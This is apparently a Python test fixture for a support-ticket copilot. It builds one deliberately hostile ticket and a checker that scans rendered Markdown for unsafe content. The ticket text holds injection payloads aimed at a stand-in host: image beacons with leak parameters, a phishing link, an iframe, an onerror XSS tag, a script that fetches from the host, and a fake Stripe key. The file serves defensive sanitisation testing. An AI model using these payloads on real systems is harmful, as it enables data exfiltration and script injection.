"""A small home whose one ticket is hostile: markdown images, links and HTML to a foreign host,
Streamlit directives, and credentials, in its subject, description and comment.

Built by a real ingest (plan + CSV ticket + comment, a few passages embedded) so the console's
pages, chat and drafts all read it the way they read real data.
"""

from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

__all__ = ["ACCOUNT", "ALLOWED_URL", "EVIL", "SECRET", "TICKET", "build_hostile_home", "hostile_problems"]

REPO = Path(__file__).resolve().parents[2]
ACCOUNT = "bluefin-market"
TICKET = "BFM-9666"
EVIL = "evil.example"
SECRET = "sk_live_51HxYzAbCdEfGhIjKlMnOpQr"
ALLOWED_URL = "https://status.bluefinmarket.example/incidents/42"  # the account's own domain

SUBJECT = (f"Exports fail ![pixel](https://{EVIL}/p.gif?leak=subject) see https://{EVIL}/login "
           f"<img src=https://{EVIL}/i.png onerror=alert(1)> :red[URGENT]")
DESCRIPTION = (
    f"Hello, please [click here](https://{EVIL}/phish) or visit www.{EVIL} for logs.\n"
    f"![screenshot](https://{EVIL}/shot.png?leak=description)\n"
    f"<iframe src=\"https://{EVIL}/frame\"></iframe>\n"
    f"[ref]: https://{EVIL}/ref\n"
    f"Our status page: {ALLOWED_URL}\n"
    f"STRIPE_KEY={SECRET}\n"
    "Exports to S3 fail with E-4031 since 09:00 UTC."
)
COMMENT = f"Any update? ![x](https://{EVIL}/c.gif?leak=comment) <script>fetch('https://{EVIL}/x')</script>"


def build_hostile_home(src: Path, home: Path) -> Path:
    """Write the sources under ``src``, ingest them into ``home``; returns ``home``."""
    from copilot.service import Copilot

    (src / "plans").mkdir(parents=True)
    shutil.copy(REPO / "data" / "sample" / "plans" / f"{ACCOUNT}.yaml", src / "plans")
    (src / "csv").mkdir()
    with (src / "csv" / f"tickets-{ACCOUNT}.csv").open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["ticket_id", "customer", "subject", "description", "priority", "status", "created_at",
                         "updated_at", "resolved_at", "component", "version", "region", "requester", "assignee",
                         "tags"])
        writer.writerow([TICKET, "Bluefin Marketplace Pty Ltd", SUBJECT, DESCRIPTION, "P1", "open",
                         "2026-05-04T09:00:00+00:00", "2026-05-04T10:00:00+00:00", "", "exports", "4.2.1",
                         "ap-southeast-2", "Ava Brooks", "Ethan Cole", "exports"])
    with (src / "csv" / f"comments-{ACCOUNT}.csv").open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["ticket_id", "comment_id", "author", "author_role", "public", "created_at", "body"])
        writer.writerow([TICKET, "966601", "Ava Brooks", "requester", "true", "2026-05-04T09:30:00+00:00", COMMENT])
    report = Copilot(home).ingest([src])
    assert report.tickets == 1, report.quarantined
    return home


def hostile_problems(text: str) -> list[str]:
    """What in one rendered Markdown string could load from or link to the foreign host. A URL inside
    a code span is shown as code, never linked (the browser test checks the rendered page too)."""
    found = []
    lowered = re.sub(r"`[^`\n]*`", "", text).lower()
    for needle, what in ((f"https://{EVIL}", "a live URL to the foreign host (autolinked)"),
                         (f"www.{EVIL}", "a www. autolink to the foreign host"),
                         ("![", "markdown image syntax"), ("<img", "an <img> tag"), ("<iframe", "an <iframe> tag"),
                         ("<script", "a <script> tag"), (f"]({'https://' + EVIL}", "a markdown link to it"),
                         (SECRET.lower(), "a credential")):
        if needle.lower() in lowered:
            found.append(what)
    return found
